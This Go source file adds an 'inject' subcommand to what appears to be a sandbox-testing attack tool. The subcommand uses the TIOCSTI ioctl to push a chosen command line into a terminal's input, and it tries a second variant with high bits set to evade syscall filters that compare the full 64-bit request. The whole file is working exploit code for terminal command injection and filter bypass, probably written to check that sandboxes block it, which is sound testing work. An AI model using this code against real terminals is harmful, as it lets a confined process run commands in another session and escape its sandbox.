package main

import (
	"os"
	"syscall"
	"unsafe"
)

// inject: push a command line into a terminal's input
// with TIOCSTI, once with the plain request and once with high bits set
// (the kernel ignores them; a filter comparing 64 bits would not).
// Usage: attack inject TTY LINE
func init() {
	register("inject", func(args []string) int {
		if len(args) != 2 {
			say("error", "usage: inject TTY LINE")
			return 2
		}
		f, err := os.OpenFile(args[0], os.O_RDWR, 0)
		if err != nil {
			say("error", err)
			return 1
		}
		defer f.Close()
		for _, c := range []struct {
			name string
			req  uintptr
		}{{"tiocsti", syscall.TIOCSTI}, {"tiocsti_high", 0xdead00000000 | syscall.TIOCSTI}} {
			result := "ok"
			for _, b := range []byte(args[1] + "\n") {
				if _, _, e := syscall.Syscall(syscall.SYS_IOCTL, f.Fd(), c.req, uintptr(unsafe.Pointer(&b))); e != 0 {
					result = errnoName(e)
					break
				}
			}
			say(c.name, result)
		}
		return 0
	})
}
